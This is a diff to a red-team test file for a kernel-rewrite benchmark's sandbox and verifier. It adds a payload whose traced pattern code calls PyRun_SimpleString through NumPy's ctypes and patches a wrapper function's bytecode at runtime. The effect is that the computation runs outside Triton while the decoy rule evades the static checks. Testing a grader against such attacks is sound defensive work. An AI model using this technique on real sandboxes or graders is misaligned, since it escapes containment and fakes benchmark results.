@@ -195,6 +195,108 @@ LIBDEVICE = {
                                        + _ADD_RELU_STORE),
 }
 
+# -- pattern code that runs when it is traced ------------------------------------------------------------------
+# ``pattern`` is traced code: any torch operator, any method and non-dunder attribute of its values
+# (``method`` returns before any check of the method's name outside wrapper code, :1653; ``expr_Attribute``
+# lets any non-dunder attribute of a value through, :1408). Round 13b reached libc through a NumPy array's
+# ``ctypes`` helper in a pattern that Triton *called*; the fix (df31dfe9) refused pattern as a value, but
+# torch.fx's tracer still runs pattern's body for real: a factory call without a Proxy argument
+# (``torch.zeros(1)``) makes a real tensor, and ``.numpy().ctypes._ctypes`` is the ctypes module
+# (numpy/_core/_internal.py). Its ``pythonapi.PyRun_SimpleString`` runs any Python in the child when
+# PassBench traces the pattern, before the first call: here it finds the shared wrapper (``gc``) and gives
+# it a body that launches the touch kernel (the launch proof) and computes relu(x + y) in NumPy, which no
+# torch dispatch sees; in the poisoned warm-up (a tensor subclass) it only allocates. The payload rides in
+# a second listed rule, ``Hook``, whose pattern matches nothing in the model, so the first rule's plain
+# pattern is what the trusted work matcher (agent.patterns) confirms (round 13b's layout).
+_SWAP_SOURCE = b"""
+def _swap():
+    import gc
+
+    def numpy_add_relu(x, y):  # its globals are the wrapper's module's: torch, touch_kernel
+        if type(x) is not torch.Tensor:
+            return torch.empty_like(x)
+        touch_kernel[(1,)](x, BLOCK=16)
+        return torch.as_tensor((x.numpy() + y.numpy()).clip(0))
+
+    for found in gc.get_objects():
+        if type(found).__name__ == "function" and found.__name__ == "triton_add_relu" and "SWAP" in found.__globals__:
+            found.__code__ = numpy_add_relu.__code__
+
+
+_swap()
+del _swap
+"""
+_TRACED_HOOK = """\
+import torch
+import triton
+import triton.language as tl
+
+SWAP = {swap!r}
+
+
+def pattern(a, b):
+    torch.zeros(1).numpy().ctypes._ctypes.pythonapi.PyRun_SimpleString(SWAP)
+    return torch.relu(a - b)
+
+
+def replacement_args(a, b):
+    return (a, b)
+
+
+@triton.jit
+def touch_kernel(out_ptr, BLOCK: tl.constexpr):
+    offsets = tl.arange(0, BLOCK)
+    mask = offsets < 1
+    tl.store(out_ptr + offsets, tl.load(out_ptr + offsets, mask=mask), mask=mask)
+
+
+def triton_add_relu(x, y):
+    out = torch.empty_like(x)
+    touch_kernel[(1,)](out, BLOCK=16)
+    return out
+
+
+from pass_dir.Hook import triton_add_relu as shared  # noqa: E402  (one function for both rules, as PassBench wants)
+
+
+def replacement_func():
+    return shared
+""".format(swap=_SWAP_SOURCE)
+_TRACED_RULE = """\
+import torch
+
+from pass_dir.Hook import triton_add_relu
+
+
+def pattern(x, y):
+    tmp = x + y
+    return torch.relu(tmp)
+
+
+def replacement_args(x, y):
+    return (x, y)
+
+
+def replacement_func():
+    return triton_add_relu
+"""
+TRACED_PAYLOAD = {RULE: _TRACED_RULE, "Hook": _TRACED_HOOK}
+
+
+def rules_static_findings(root: Path, name: str, rules: dict[str, str]) -> list[str]:
+    """Every static layer on a sample listing ``rules`` (name: source) in order: the trusted allow-list,
+    PassBench's validator and the child's rules on each rule file."""
+    from pytest_passnet import guard
+    from pytest_passnet.sandbox.child.watch import static_findings as child_static_findings
+    from pytest_passnet.validator import validate_pass_source
+    from tests.sample_factory import ADD_RELU_MODEL, write_sample
+
+    sample = write_sample(root, name, model=ADD_RELU_MODEL, shape=attacks15b.SHAPE, passes=rules)
+    files = [sample / "pass_dir" / f"{rule}.py" for rule in rules]
+    return (guard.sample_static_findings(sample) + [v for f in files for v in validate_pass_source(f.read_text(), f)]
+            + child_static_findings(files, sample))
+
+
 # -- held: the neighbours of the rows above -------------------------------------------------------------
 # A Config's kwargs holding the table (it would reach a non-constexpr parameter as a pointer): "passes a
 # tensor to 'triton.Config'". A list default built by a comprehension, which the child's rule on mutable
@@ -227,31 +329,35 @@ HELD = {"config_kwarg": CONFIG_KWARG, "comprehension_default": COMPREHENSION_DEF
 PLUGIN_PASSES = {**{f"heuristic_{name}": source for name, source in HEURISTIC_PASSES.items()},
                  **{f"kwargs_{name}": source for name, source in KWARGS_PASSES.items()},
                  **{f"kept_{name}": source for name, source in KEPT_IN_HOOKS.items()},
-                 "state_launch": KERNEL_STATE["launch"],
+                 "state_launch": KERNEL_STATE["launch"], "traced_payload": TRACED_PAYLOAD,
                  "honest": ADD_RELU_PASS}
-VERIFIED = ("heuristic_keyword", "kwargs_display")
+VERIFIED = ("heuristic_keyword", "kwargs_display", "traced_payload")
 
 
 def plugin_run(folder: Path) -> dict[str, dict]:
     """The passes above through the real plugin (CPU, the default sandbox, the interpreter): the report's
     variant of each, by sample name."""
+    from tests.adversarial.redteam.round13b import attacks13b
     from tests.adversarial.samples import run_plugin
 
-    samples = [attacks15b.pass_sample(folder, name, source) for name, source in PLUGIN_PASSES.items()]
+    samples = [(attacks13b.pass_sample if isinstance(source, dict) else attacks15b.pass_sample)(folder, name, source)
+               for name, source in PLUGIN_PASSES.items()]
     variants, _ = run_plugin(samples, folder / "out")
     return variants
 
 
 def verifier_rewards(base: Path) -> dict[str, tuple[float, dict, str]]:
-    """The exported add_relu task's verifier (Harbor's separate container) on the passes that compute in
-    torch inside the kernel's body: (reward, evaluation.json, output) by name."""
+    """The exported add_relu task's verifier (Harbor's separate container) on passes that compute outside
+    Triton: (reward, evaluation.json, output) by name."""
     from tests.adversarial.redteam.round10b import attacks10b
     from tests.adversarial.redteam.round13b.attacks13b import verifier_reward
 
     rewards = {}
     for name in VERIFIED:
         folder = attacks10b.harbor_task(base / name / "harbor")
-        rewards[name] = verifier_reward(folder, {RULE: PLUGIN_PASSES[name]}, base / name / "verifier")
+        files = PLUGIN_PASSES[name]
+        rewards[name] = verifier_reward(folder, files if isinstance(files, dict) else {RULE: files},
+                                        base / name / "verifier")
     return rewards
 
 
